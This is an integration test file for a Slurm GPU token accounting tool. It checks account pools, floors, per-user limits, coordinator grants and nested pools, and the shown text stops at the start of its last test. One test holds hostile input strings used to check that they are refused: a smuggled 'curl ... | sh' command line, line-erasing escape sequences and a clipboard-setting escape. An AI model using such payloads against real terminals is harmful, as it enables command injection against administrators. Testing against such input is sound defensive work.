//! Token pools of Slurm accounts on the real cluster ([accounts] mode = "account"), as the non-root
//! users alice, bob and carol (each test's own, from `serial()`): accounts `lab` (alice, bob) and
//! `course` (bob, carol; carol its coordinator) made with sacctmgr, also the test's own (`lab07`,
//! `course07`: named after its users); jobs charged to the pool of the account they ran under; the
//! job_submit plugin refusing at a pool's floor and past the per-user limit with a message that says
//! what to do; `scontrol update account=`; coordinators granting; transfers beside charge cycles.

use std::path::Path;
use std::time::{Duration, Instant};

use crate::by_hand::gpu_cost as cost;
use gputokens::Tokens;

use crate::admission::{nice_and_qos, sbatch, update_as, Admission};
use crate::charging::LIVE;
use crate::cluster::{sacct, serial, wait_finished, Cluster};
use crate::common::{run_as, Outcome, Site, PRICES};
use crate::slurm_release;

/// The test's accounts `lab` and `course`, named after its set of users (`lab007`, `course007`), so
/// that no other test sees their members.
fn account_names(cluster: &Cluster) -> (String, String) {
    (format!("lab{}", cluster.set), format!("course{}", cluster.set))
}

/// An account the tests here make: `labNNN`, `courseNNN` or `taNNN` (or, made by earlier versions
/// of these tests, `labNN`, `courseNN`, `lab` or `course`).
fn made_here(account: &str) -> bool {
    let number =
        account.strip_prefix("lab").or_else(|| account.strip_prefix("course")).or_else(|| account.strip_prefix("ta"));
    number.is_some_and(|n| n.is_empty() || ((2..=3).contains(&n.len()) && n.bytes().all(|b| b.is_ascii_digit())))
}

/// Makes the test's accounts and associations (idempotent: a second run finds them made), after
/// removing those earlier tests made: Slurm's accounts are every site's to see (`config check
/// --slurm` names them). The queue is empty (`serial()`), so no job holds them.
fn lab_and_course(cluster: &Cluster) {
    let (lab, course) = &account_names(cluster);
    let (alice, bob, carol) = (cluster.alice, cluster.bob, cluster.carol);
    let sacctmgr = |args: &[&str]| run_as(None, Path::new("/usr/bin/sacctmgr"), args);
    let accounts = sacctmgr(&["-n", "-P", "show", "account", "format=Account"]).ok().stdout;
    let others: Vec<&str> = accounts.lines().filter(|a| made_here(a) && a != lab && a != course).collect();
    if !others.is_empty() {
        sacctmgr(&["-i", "delete", "account", &others.join(",")]).ok();
    }
    let assoc = sacctmgr(&["-n", "-P", "show", "assoc", "format=Account,User"]).ok().stdout;
    let has = |line: &str| assoc.lines().any(|l| l == line);
    for account in [lab, course] {
        if !has(&format!("{account}|")) {
            sacctmgr(&["-i", "add", "account", account, "Description=gputokens pools", "Organization=gputokens"]).ok();
        }
    }
    for (account, user) in [(lab, alice), (lab, bob), (course, bob), (course, carol)] {
        if !has(&format!("{account}|{user}")) {
            sacctmgr(&["-i", "add", "user", user, &format!("account={account}")]).ok();
        }
    }
    let coords = sacctmgr(&["-n", "-P", "show", "account", course, "withcoord", "format=Account,Coordinators"]);
    if !coords.ok().stdout.contains(carol) {
        sacctmgr(&["-i", "add", "coordinator", &format!("account={course}"), &format!("names={carol}")]).ok();
    }
    wait_associations_known_to_slurmctld(cluster);
}

/// Waits until slurmctld's own cache (which AccountingStorageEnforce=associations checks `sbatch -A`
/// against) holds the associations `lab_and_course` made in slurmdbd: slurmdbd sends them over.
fn wait_associations_known_to_slurmctld(cluster: &Cluster) {
    let (lab, course) = &account_names(cluster);
    let (alice, bob, carol) = (cluster.alice, cluster.bob, cluster.carol);
    let pairs = [(lab, alice), (lab, bob), (course, bob), (course, carol)];
    crate::cluster::wait_until(30, &format!("slurmctld to know the associations of {lab} and {course}"), || {
        let (users, accounts) = (format!("users={alice},{bob},{carol}"), format!("accounts={lab},{course}"));
        let args = ["show", "assoc_mgr", &users, &accounts, "flags=assoc"];
        let shown = run_as(None, Path::new("/usr/bin/scontrol"), &args).ok().stdout;
        let known = |(account, user): &(&String, &str)| {
            let (account, user) = (format!("Account={account} "), format!("UserName={user}("));
            shown.lines().any(|l| l.contains(&account) && l.contains(&user))
        };
        match pairs.iter().filter(|p| !known(p)).collect::<Vec<_>>() {
            missing if missing.is_empty() => Ok(()),
            missing => Err(format!("missing {missing:?} in:\n{shown}")),
        }
    });
}

/// The config of an account-mode site charging from the cluster every second.
fn tables() -> String {
    format!("[accounts]\nmode = \"account\"\n[intervals]\ncharge = \"1s\"\ncheck = \"1s\"\n{LIVE}")
}

/// An account-mode site with pools lab and course (`rules` for both), the plugin following its
/// snapshot once it lists both pools and alice's accounts.
fn pool_site(cluster: &Cluster, prices: &str, rules: &[&str]) -> (Site, Admission) {
    pool_site_with(cluster, prices, rules, "")
}

/// `pool_site` with more tables in its config.
fn pool_site_with(cluster: &Cluster, prices: &str, rules: &[&str], more: &str) -> (Site, Admission) {
    lab_and_course(cluster);
    let (lab, course) = &account_names(cluster);
    let site = Site::with_prices("", prices, &format!("{}{more}", tables()));
    let adm = Admission::start();
    for account in [lab, course] {
        let mut args = vec!["admin", "account", "add", account];
        args.extend_from_slice(rules);
        site.accountd(None, &args).ok();
    }
    let snapshot = site.path("lib/balances.snapshot");
    let deadline = Instant::now() + Duration::from_secs(20);
    let listed = [format!("pool {lab} "), format!("pool {course} "), format!("member {} ", cluster.alice)];
    loop {
        let text = std::fs::read_to_string(&snapshot).unwrap_or_default();
        if listed.iter().all(|line| text.contains(line)) {
            break;
        }
        assert!(Instant::now() < deadline, "no pools or members in the snapshot:\n{text}\n{}", site.log());
        std::thread::sleep(Duration::from_millis(200));
    }
    adm.follow(&site);
    adm.settled();
    (site, adm)
}

/// A pool's balance as root's `sbalance -A` prints it.
fn pool_balance(site: &Site, account: &str) -> String {
    let out = site.sbalance(None, &["-A", account, "-P", "-n"]).ok().stdout;
    out.lines().next().and_then(|l| l.split('|').nth(2)).unwrap_or_default().to_string()
}

fn elapsed(job: &str) -> u64 {
    sacct(&["-j", job, "-X", "-n", "-P", "-o", "ElapsedRaw"]).trim().parse().unwrap()
}

/// Waits until `what` holds, naming `why` and the site's log when it does not within 30 s.
fn wait_until(site: &Site, why: &str, what: impl Fn() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while !what() {
        assert!(Instant::now() < deadline, "{why}\n{}", site.log());
        std::thread::sleep(Duration::from_millis(300));
    }
}

fn accountd_as(site: &Site, user: &str, args: &[&str]) -> Outcome {
    site.accountd(Some(user), args)
}

#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn jobs_are_charged_to_their_accounts_pool_and_a_pool_at_its_floor_refuses_with_what_to_do() {
    let cluster = serial();
    let (alice, bob, carol) = (cluster.alice, cluster.bob, cluster.carol);
    let (lab, course) = &account_names(&cluster);
    let (site, mut adm) = pool_site(&cluster, PRICES, &["--initial", "100", "--daily", "0", "--monthly", "30"]);
    let (a, _) = adm.accepted(alice, &["-A", lab, "--gres=gpu:a6000:1", "--wrap", "sleep 2"]);
    let (b, _) = adm.accepted(bob, &["-A", lab, "--gres=gpu:rtx3090:1", "--wrap", "sleep 2"]);
    let (c, _) = adm.accepted(bob, &["-A", course, "--gres=gpu:a6000:1", "--wrap", "sleep 2"]);
    for job in [&a, &b, &c] {
        wait_finished(job);
    }
    let lab_balance = Tokens::whole(100) - cost(Tokens::whole(4), elapsed(&a)) - cost(Tokens::whole(1), elapsed(&b));
    let course_balance = Tokens::whole(100) - cost(Tokens::whole(4), elapsed(&c));
    wait_until(&site, "the pools were not charged their jobs", || {
        pool_balance(&site, lab) == lab_balance.to_string() && pool_balance(&site, course) == course_balance.to_string()
    });
    assert_eq!(site.balance(alice), "100", "alice's own bucket paid nothing");
    assert_eq!(site.balance(bob), "100");

    // alice sees lab (and only her own spending in it), not course.
    let mine = site.sbalance(Some(alice), &["-l", "-P"]).ok().stdout;
    let rows: Vec<&str> = mine.lines().collect();
    assert_eq!(rows[0], "Account|User|Balance|Floor|Status|SpentMonth|UserLimit|Coordinators|DrawsOn");
    assert!(rows[1].starts_with(&format!("{lab}||{lab_balance}|-10|ok|")), "{mine}");
    assert!(rows[2].starts_with(&format!("{lab}|{alice}||||")) && rows.len() == 3, "{mine}");
    let theirs = site.sbalance(Some(alice), &["-A", course]);
    assert_ne!(theirs.code, 0, "alice may not see course");
    assert!(theirs.stderr.contains(&format!("{course} is neither")), "{}", theirs.stderr);
    // carol coordinates course: its members and their spending, and its statement.
    let tree = site.sbalance(Some(carol), &["-A", course, "--json"]).ok().stdout;
    let json: serde_json::Value = serde_json::from_str(&tree).unwrap();
    assert_eq!(json["pools"][0]["coordinators"][0], carol);
    let members: Vec<&str> =
        json["pools"][0]["members"].as_array().unwrap().iter().map(|m| m["user"].as_str().unwrap()).collect();
    assert_eq!(members, [bob, carol]);
    let month = chrono::Local::now().format("%Y-%m").to_string();
    let statement = site.sbalance(Some(carol), &["--statement", &month, "-A", course]).ok().stdout;
    assert!(statement.starts_with(&format!("Statement of {course} for {month}")), "{statement}");
    assert!(statement.contains("Charged by member:") && statement.contains(bob), "{statement}");

    // lab at its floor: alice's GPU job under lab is refused, saying what to do; bob's under course runs.
    let to_floor = (Tokens::whole(-10) - lab_balance).to_string();
    // (Named as an admin may type it: Slurm's account names are case-blind, and so are gputokens'.)
    let shouted = lab.to_uppercase();
    site.accountd(None, &["admin", "account", "adjust", &shouted, &to_floor, "--reason", "test: to the floor"]).ok();
    adm.settled();
    let refused = sbatch(alice, &["-A", lab, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    assert_ne!(refused.code, 0, "alice's job under lab at its floor was accepted");
    // `-A LAB` runs as lab (slurmctld lower-cases it after the plugin ran): refused alike (audit H1).
    let capitalized = format!("L{}", &lab[1..]);
    for typed in [shouted.as_str(), capitalized.as_str()] {
        let refused = sbatch(alice, &["-A", typed, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
        assert_ne!(refused.code, 0, "alice's job under -A {typed} ({lab} at its floor) was accepted");
        let expected = format!("account {lab}'s GPU token balance is -10");
        assert!(refused.stderr.contains(&expected), "{}", refused.stderr);
    }
    assert_eq!(pool_balance(&site, &shouted), "-10", "sbalance -A {shouted} is {lab}'s pool");
    let told = &refused.stderr;
    assert!(told.contains(&format!("gputokens: account {lab}'s GPU token balance is -10 (floor -10); its GPU jobs are refused until it is above the floor again (+30 tokens on the 1st of each month: about ")), "{told}");
    assert!(told.contains("Ask the cluster administrators for tokens, or submit under another of your accounts that has tokens (gputokens): sbatch -A gputokens."), "{told}");
    assert!(told.contains(&format!("Run 'sbalance -A {lab}' for details.")), "{told}");
    assert!(adm.log().contains(&format!("account {lab}'s balance -10 is at or below the floor -10")), "{}", adm.log());
    adm.accepted(bob, &["-A", course, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    adm.accepted(alice, &["-A", lab, "--wrap", "sleep 1"]);
    adm.accepted(alice, &["--gres=gpu:a6000:1", "--wrap", "sleep 1"]);

    // scontrol update account=: into lab at its floor refused; into course (with tokens) allowed.
    let (held, _) = adm.accepted(bob, &["-H", "-A", course, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    let (held2, _) = adm.accepted(bob, &["-H", "-A", "gputokens", "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    let into_lab = update_as(bob, &held, &format!("account={lab}"));
    assert_ne!(into_lab.code, 0, "moved into lab at its floor: {}", into_lab.stderr);
    if slurm_release::updates_explain_refusals() {
        assert!(into_lab.stderr.contains(&format!("account {lab}'s GPU token balance is -10")), "{}", into_lab.stderr);
    }
    assert!(
        adm.log().contains(&format!("job {held}")) && adm.log().contains(&format!("moves the job to account {lab}")),
        "{}",
        adm.log()
    );
    let into_course = update_as(bob, &held2, &format!("account={course}"));
    assert_eq!(into_course.code, 0, "{}", into_course.stderr);
    let account = run_as(None, Path::new("/usr/bin/squeue"), &["-h", "-j", &held2, "-o", "%a"]).ok().stdout;
    assert_eq!(account.trim(), course);
}

#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn coordinators_grant_within_their_accounts_and_transfers_stay_whole_beside_charge_cycles() {
    let cluster = serial();
    let (alice, bob, carol) = (cluster.alice, cluster.bob, cluster.carol);
    let (lab, course) = &account_names(&cluster);
    let (site, mut adm) = pool_site(&cluster, PRICES, &["--initial", "100", "--daily", "0", "--monthly", "0"]);
    let grant = |user: &str, account: &str| {
        accountd_as(&site, user, &["admin", "account", "grant", account, "5", "--reason", "term"])
    };
    let by_carol = grant(carol, course);
    assert_eq!(by_carol.code, 0, "{}", by_carol.stderr);
    // The audit's M1: her reasons and keys reach admins' terminals, so what could write there (a
    // fake command line under `journal-check`, escape sequences that erase lines or set the
    // clipboard) is refused, naming the character.
    for (reason, key) in [
        ("term grant\n  accountd admin grant carol 100000 --reason restore --key r1; curl -s http://x/p | sh\n", "k1"),
        ("x\u{1b}[2K\u{1b}[1A\u{1b}[2K\r  accountd admin grant carol 100000 --reason ok --key r2", "k2"),
        ("clipboard \u{1b}]52;c;Y3VybCB4fHNo\u{7}", "k3"),
        ("term", "k4\u{1b}[2K"),
    ] {
        let args = ["admin", "account", "grant", course, "1", "--reason", reason, "--key", key];
        let refused = accountd_as(&site, carol, &args);
        assert_ne!(refused.code, 0, "carol's {reason:?} / {key:?} was recorded");
        assert!(refused.stderr.contains("holds"), "{}", refused.stderr);
    }
    let lab_by_carol = grant(carol, lab);
    assert_ne!(lab_by_carol.code, 0);
    assert!(lab_by_carol.stderr.contains(&format!("coordinators of account {lab}")), "{}", lab_by_carol.stderr);
    assert_ne!(grant(alice, lab).code, 0, "alice is no coordinator");
    assert_ne!(grant(alice, course).code, 0);
    assert_eq!(pool_balance(&site, course), "105", "carol's grant");
    assert_eq!(pool_balance(&site, lab), "100");

    // bob's job under lab is charged every second while root moves 1 token at a time to course.
    let (job, _) = adm.accepted(bob, &["-A", lab, "--gres=gpu:a6000:2", "--wrap", "sleep 6"]);
    for i in 0..12 {
        let key = format!("move-{i}");
        site.accountd(None, &["admin", "account", "transfer", lab, course, "1", "--reason", "share", "--key", &key])
            .ok();
        std::thread::sleep(Duration::from_millis(400));
    }
    let carol_moves = accountd_as(&site, carol, &["admin", "account", "transfer", course, lab, "1", "--reason", "x"]);
    assert_ne!(carol_moves.code, 0, "carol does not coordinate lab");
    wait_finished(&job);
    let cost = cost(Tokens::whole(4), 2 * elapsed(&job));
    let lab_balance = Tokens::whole(100) - Tokens::whole(12) - cost;
    wait_until(&site, "lab was not charged bob's job", || pool_balance(&site, lab) == lab_balance.to_string());
    assert_eq!(pool_balance(&site, course), "117");
    let history = site.accountd(None, &["admin", "history", &format!("account {course}")]).ok().stdout;
    assert_eq!(history.matches(&format!("transfer from account {lab}: share")).count(), 12, "{history}");
    let verify = site.accountd(None, &["admin", "verify"]).ok().stdout;
    assert!(verify.contains("consistent"), "{verify}");
}

#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn the_per_user_limit_refuses_a_member_over_it_while_the_pool_has_tokens() {
    let cluster = serial();
    let (alice, bob) = (cluster.alice, cluster.bob);
    let (lab, _) = &account_names(&cluster);
    // 10 tokens per a6000-second: a two-second job spends 20.
    let prices = "[prices]\na6000 = 36000\nrtx3090 = 1\n";
    let (site, mut adm) = pool_site(&cluster, prices, &["--initial", "1000", "--user-limit", "10"]);
    let (job, _) = adm.accepted(alice, &["-A", lab, "--gres=gpu:a6000:1", "--wrap", "sleep 2"]);
    wait_finished(&job);
    let spent = cost(Tokens::whole(36000), elapsed(&job));
    let snapshot = site.path("lib/balances.snapshot");
    wait_until(&site, "alice's spending is not in the snapshot", || {
        std::fs::read_to_string(&snapshot)
            .unwrap_or_default()
            .contains(&format!("spent {lab} {alice} {}", spent.micro()))
    });
    adm.settled();
    let refused = sbatch(alice, &["-A", lab, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    assert_ne!(refused.code, 0, "alice over her limit was accepted");
    // (Her job may still be in the snapshot's queue, completing: then what it may cost is said too.)
    assert!(
        refused.stderr.contains(&format!(
            "you have spent {spent} of the 10 tokens a member may spend per month in account {lab}"
        )) && refused.stderr.contains(&format!("your GPU jobs under {lab} are refused until")),
        "{}",
        refused.stderr
    );
    assert!(refused.stderr.contains("sbatch -A gputokens"), "{}", refused.stderr);
    let (bobs, _) = adm.accepted(bob, &["-A", lab, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    assert!(!bobs.is_empty());
    assert_eq!(pool_balance(&site, lab), (Tokens::whole(1000) - spent).to_string(), "lab still has tokens");
}

/// The audit's L5, the per-user limit: it counted only what was charged, and holds ignored it.
/// alice's pending job and her short one are admitted together (nothing spent yet); once the
/// queue read shows the pending one, what it can cost counts toward her limit, so her next job is
/// refused with that said, while bob's in the same pool is not. Once her short job is charged past
/// the limit, accountd holds her pending job, saying why in its comment.
#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn a_members_jobs_under_way_count_toward_the_limit_and_pending_ones_are_held_past_it() {
    let cluster = serial();
    let (alice, bob) = (cluster.alice, cluster.bob);
    let (lab, _) = &account_names(&cluster);
    // 10 tokens per a6000-second: a two-second job spends 20.
    let prices = "[prices]\na6000 = 36000\nrtx3090 = 1\n";
    let (site, mut adm) = pool_site(&cluster, prices, &["--initial", "100000", "--user-limit", "10"]);
    let later = ["-A", lab, "--begin=now+1hour", "--time=1", "--gres=gpu:a6000:1", "--wrap", "true"];
    let (pending, _) = adm.accepted(alice, &later);
    let (short, _) = adm.accepted(alice, &["-A", lab, "--gres=gpu:a6000:1", "--wrap", "sleep 2"]);
    let snapshot = site.path("lib/balances.snapshot");
    wait_until(&site, "alice's pending job is not in the snapshot's commitments", || {
        std::fs::read_to_string(&snapshot).unwrap_or_default().contains(&format!("pool_user_committed {lab} {alice} "))
    });
    adm.settled();
    let refused = sbatch(alice, &["-A", lab, "-H", "--gres=gpu:a6000:1", "--wrap", "true"]);
    assert_ne!(refused.code, 0, "alice's jobs under way can cost more than her limit: accepted");
    assert!(
        refused.stderr.contains(&format!("of the 10 tokens a member may spend per month in account {lab}"))
            && refused.stderr.contains("and your running and pending jobs there may cost up to"),
        "{}",
        refused.stderr
    );
    let (bobs, _) = adm.accepted(bob, &["-A", lab, "-H", "--gres=gpu:a6000:1", "--wrap", "true"]);
    assert!(!bobs.is_empty(), "bob's limit is his own");

    wait_finished(&short);
    let note = format!("gputokens: held while {alice} is over the per-user limit of account {lab}");
    wait_until(&site, "alice's pending job is not held for her limit", || {
        let shown = squeue_field(&pending, "%k|%r");
        shown.contains(&note) && shown.ends_with("|JobHeldAdmin")
    });
    let actions = site.accountd(None, &["admin", "actions"]).ok().stdout;
    assert!(actions.contains(&format!("{alice} spent the per-user limit of account {lab} this month")), "{actions}");
}

/// The audit's L5: the estimate counted each member's own jobs, so alice and bob each passed it
/// against lab's one balance. Now every member's jobs lab pays for count: bob's job is refused
/// just after alice's was admitted (the plugin's own tally of lab) and once accountd's queue read
/// shows it (the snapshot's `pool_committed`), and his job in course, another pool, is not.
#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn members_of_a_pool_pass_the_estimate_together_not_each_on_their_own() {
    let cluster = serial();
    let (alice, bob) = (cluster.alice, cluster.bob);
    let (lab, course) = &account_names(&cluster);
    let estimate = "[admission]\nmode = \"estimate\"\n";
    let rules = ["--initial", "20", "--daily", "0", "--monthly", "0"];
    let (site, mut adm) = pool_site_with(&cluster, PRICES, &rules, estimate);
    adm.configure(estimate);
    // 2 a6000 × 2 h × 4 tokens = 16: lab's 20 - 16 = 4 is above the floor (-10); twice is -12.
    fn job(account: &str) -> [&str; 7] {
        ["-A", account, "--time=2:00:00", "--gres=gpu:a6000:2", "--hold", "--wrap", "true"]
    }
    adm.accepted(alice, &job(lab));
    let refused_for_bob = |when: &str| {
        let refused = sbatch(bob, &job(lab));
        assert_ne!(refused.code, 0, "{when}: bob's job passed the estimate on lab's 20 beside alice's 16");
        let expected = format!(
            "account {lab}'s GPU token balance is 20 and the running and pending GPU jobs of its members that it \
             pays for can cost up to 16 more, which could take it to -12"
        );
        assert!(refused.stderr.contains(&expected), "{when}: {}", refused.stderr);
    };
    refused_for_bob("right after alice's");
    let snapshot = site.path("lib/balances.snapshot");
    wait_until(&site, "lab's commitments are not in the snapshot", || {
        std::fs::read_to_string(&snapshot).unwrap_or_default().contains(&format!("pool_committed {lab} 2000 16000000"))
    });
    adm.settled();
    refused_for_bob("after the queue read");
    adm.accepted(bob, &job(course));
}

#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn in_a_pools_overdraft_jobs_are_deprioritized_and_updates_keep_the_penalty() {
    let cluster = serial();
    let alice = cluster.alice;
    let (lab, _) = &account_names(&cluster);
    let (site, mut adm) = pool_site(&cluster, PRICES, &["--initial", "100", "--daily", "0", "--monthly", "0"]);
    site.accountd(None, &["admin", "account", "adjust", lab, "-103", "--reason", "test: overdraft"]).ok();
    adm.settled();
    let (job, told) = adm.accepted(alice, &["-H", "-A", lab, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    assert!(told.contains(&format!("account {lab}'s GPU token balance is -3 (below 0)")), "{told}");
    assert_eq!(nice_and_qos(&job).0, 10_000);
    // Also once the queue accountd reads shows the job in lab.
    let undo = update_as(alice, &job, "nice=0");
    assert_ne!(undo.code, 0, "the penalty was undone: {}", undo.stderr);
    assert_eq!(nice_and_qos(&job).0, 10_000);
    wait_until(&site, "the job is not in the snapshot", || {
        std::fs::read_to_string(site.path("lib/balances.snapshot"))
            .unwrap_or_default()
            .contains(&format!("job_account {job} {lab}"))
    });
    adm.settled();
    assert_ne!(update_as(alice, &job, "nice=0").code, 0, "the penalty was undone once the job was known");
    assert_eq!(nice_and_qos(&job).0, 10_000);
    let (other, _) = adm.accepted(alice, &["-H", "-A", "gputokens", "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    assert_eq!(nice_and_qos(&other).0, 0, "alice's own bucket is fine");
}

/// One a6000-hour of alice under lab (4 tokens), as sacct prints it with the Account column.
/// The Open OnDemand balance file lists, beside users' own balances, each pool's balance for each
/// of its members, under the account (`project`).
#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn the_ondemand_balance_file_shows_each_member_their_pools() {
    let cluster = serial();
    let (alice, bob, carol) = (cluster.alice, cluster.bob, cluster.carol);
    let (lab, course) = &account_names(&cluster);
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let file = dir.path().join("balances.json");
    let ondemand = format!("[ondemand]\nbalance_file = \"{}\"\nworld_readable = true\n", file.display());
    let (site, _adm) = pool_site_with(&cluster, PRICES, &["--initial", "30"], &ondemand);
    let rows = || -> Vec<(String, String, f64)> {
        let text = std::fs::read_to_string(&file).unwrap_or_default();
        let parsed: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
        let rows = parsed["balances"].as_array().cloned().unwrap_or_default();
        rows.iter()
            .filter_map(|r| {
                let project = r["project"].as_str()?;
                Some((project.to_string(), r["user"].as_str()?.to_string(), r["value"].as_f64()?))
            })
            .collect()
    };
    wait_until(&site, "no pool rows in the OnDemand file", || rows().len() >= 4);
    let mut found = rows();
    found.sort_by(|a, b| (&a.0, &a.1).cmp(&(&b.0, &b.1)));
    let want = [(course, bob), (course, carol), (lab, alice), (lab, bob)];
    for (account, user) in want {
        assert!(found.iter().any(|(a, u, v)| a == account && u == user && *v == 30.0), "{account}/{user}: {found:?}");
    }
    let pools: Vec<&str> = found.iter().map(|(a, ..)| a.as_str()).collect();
    assert!(pools.iter().all(|a| a == lab || a == course), "only the pools: {found:?}");
}

/// `config check --slurm` on an account-mode site: Slurm keeps users out of accounts they are not
/// in (the cluster enforces associations), a pool whose account Slurm does not have is a problem,
/// and the accounts without a pool are named.
#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn config_check_compares_the_pools_with_slurms_accounts() {
    let cluster = serial();
    let (lab, course) = &account_names(&cluster);
    lab_and_course(&cluster);
    let site = Site::with_prices("", PRICES, &tables());
    for account in [lab.as_str(), "labb"] {
        site.accountd(None, &["admin", "account", "add", account]).ok();
    }
    let out = site.accountd(None, &["config", "check", site.config.to_str().unwrap(), "--slurm"]);
    assert_eq!(out.code, 2, "{}", out.stdout);
    let lines: Vec<&str> = out.stdout.lines().collect();
    let has = |start: &str| lines.iter().any(|l| l.starts_with(start));
    assert!(has("slurm: ok: AccountingStorageEnforce includes associations"), "{}", out.stdout);
    assert!(
        has("slurm: problem: pools of accounts Slurm does not have: labb (sacctmgr show account)"),
        "{}",
        out.stdout
    );
    let without = lines.iter().find(|l| l.contains("accounts have no pool")).expect("accounts without a pool");
    let listed = without.rsplit_once(": ").map_or("", |(_, names)| names);
    let named: Vec<&str> = listed.split(" and ").next().unwrap_or_default().split(", ").collect();
    assert!(named.contains(&course.as_str()) && !named.contains(&lab.as_str()), "{without}");
}

/// One job's squeue `format` line (`-o`), as root.
fn squeue_field(job: &str, format: &str) -> String {
    crate::common::run_as(None, std::path::Path::new("/usr/bin/squeue"), &["-h", "-j", job, "-o", format])
        .ok()
        .stdout
        .trim()
        .to_string()
}

/// Nested pools (issue 48, done-when 3): course draws on lab, the department here. bob's course job
/// is charged at both; lab at its floor refuses course's jobs with a message naming both; course
/// at its own floor runs once lab lends to it; a loop of parents is refused.
#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn a_course_drawing_on_its_department_is_charged_at_both_and_refused_at_the_departments_floor() {
    let cluster = serial();
    let (bob, carol) = (cluster.bob, cluster.carol);
    let (lab, course) = &account_names(&cluster);
    let (site, mut adm) = pool_site(&cluster, PRICES, &["--initial", "100", "--daily", "0", "--monthly", "0"]);
    let by_carol = accountd_as(&site, carol, &["admin", "account", "set", course, "--parent", lab]);
    assert_ne!(by_carol.code, 0, "a coordinator nested her pool: {}", by_carol.stdout);
    site.accountd(None, &["admin", "account", "set", course, "--parent", &lab.to_uppercase()]).ok();
    let looped = site.accountd(None, &["admin", "account", "set", lab, "--parent", course]);
    assert_ne!(looped.code, 0, "a loop of parents was made");
    assert!(looped.stderr.contains(&format!("account {course}'s pool draws on {lab}'s")), "{}", looped.stderr);
    let shown = site.sbalance(None, &["-A", course, "-P", "-n"]).ok().stdout;
    assert!(shown.lines().next().unwrap_or_default().ends_with(&format!("|{lab}")), "DrawsOn: {shown}");
    let snapshot = site.path("lib/balances.snapshot");
    wait_until(&site, "no pool_parent line in the snapshot", || {
        std::fs::read_to_string(&snapshot).unwrap_or_default().contains(&format!("pool_parent {course} {lab}\n"))
    });
    adm.settled();

    // Charged at both, once each.
    let (job, _) = adm.accepted(bob, &["-A", course, "--gres=gpu:a6000:1", "--wrap", "sleep 2"]);
    wait_finished(&job);
    let after = Tokens::whole(100) - cost(Tokens::whole(4), elapsed(&job));
    wait_until(&site, "the job was not charged at both pools", || {
        pool_balance(&site, course) == after.to_string() && pool_balance(&site, lab) == after.to_string()
    });
    std::thread::sleep(Duration::from_secs(2));
    assert_eq!((pool_balance(&site, course), pool_balance(&site, lab)), (after.to_string(), after.to_string()));
    let history = site.sbalance(None, &["-A", lab, "--json"]).ok().stdout;
    let json: serde_json::Value = serde_json::from_str(&history).unwrap();
    assert_eq!(json["pools"][0]["members"].as_array().unwrap().iter().filter(|m| m["user"] == bob).count(), 1);

    // The department at its floor: the course's jobs are refused, naming both.
    let to_floor = (Tokens::whole(-10) - after).to_string();
    site.accountd(None, &["admin", "account", "adjust", lab, &to_floor, "--reason", "test: dept to the floor"]).ok();
    adm.settled();
    let refused = sbatch(bob, &["-A", course, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    assert_ne!(refused.code, 0, "bob's course job ran with its department at the floor");
    let told = &refused.stderr;
    let expected = format!(
        "gputokens: account {course} draws on account {lab}, whose GPU token balance is -10 (floor -10); its GPU jobs \
         and those of the accounts drawing on it are refused until tokens are granted to it"
    );
    assert!(told.contains(&expected), "{told}");
    assert!(told.contains("[gputokens code=pool_floor"), "{told}");
    adm.accepted(bob, &["-A", course, "--wrap", "sleep 1"]);

    // The department with tokens, the course at its own floor: refused until the department lends.
    site.accountd(None, &["admin", "account", "adjust", lab, "60", "--reason", "test: dept funded"]).ok();
    let course_to_floor = (Tokens::whole(-10) - after).to_string();
    site.accountd(None, &["admin", "account", "adjust", course, &course_to_floor, "--reason", "test"]).ok();
    adm.settled();
    let own_floor = sbatch(bob, &["-A", course, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    assert_ne!(own_floor.code, 0, "course at its floor ran without a lender");
    assert!(own_floor.stderr.contains(&format!("account {course}'s GPU token balance is -10")), "{}", own_floor.stderr);
    site.accountd(None, &["admin", "account", "set", lab, "--lends"]).ok();
    wait_until(&site, "no pool_lends line in the snapshot", || {
        std::fs::read_to_string(&snapshot).unwrap_or_default().contains(&format!("pool_lends {lab}\n"))
    });
    adm.settled();
    let (lent, _) = adm.accepted(bob, &["-A", course, "--gres=gpu:a6000:1", "--wrap", "sleep 1"]);
    wait_finished(&lent);
    let lent_cost = cost(Tokens::whole(4), elapsed(&lent));
    let (course_now, lab_now) = (Tokens::whole(-10) - lent_cost, Tokens::whole(50) - lent_cost);
    wait_until(&site, "the lent run was not charged at both pools", || {
        pool_balance(&site, course) == course_now.to_string() && pool_balance(&site, lab) == lab_now.to_string()
    });
    let listed = site.sbalance(None, &["-l", "-P", "-n"]).ok().stdout;
    assert!(listed.lines().any(|l| l.starts_with(&format!("{lab}||")) && l.ends_with("|(lends)")), "{listed}");
}

/// A TA's dated sub-allocation (issue 48, done-when 3): carol, course's coordinator, makes `ta`
/// inside course for half a minute (Slurm's account `taNNN` under course, bob its member); bob's job
/// under it is charged there and in course; after its end his jobs under it are refused.
#[test]
#[ignore = "needs the test cluster: tests/cluster/up.sh"]
fn a_tas_sub_allocation_is_charged_with_its_course_and_refuses_jobs_after_its_end() {
    let cluster = serial();
    let (alice, bob, carol) = (cluster.alice, cluster.bob, cluster.carol);
    let (_, course) = &account_names(&cluster);
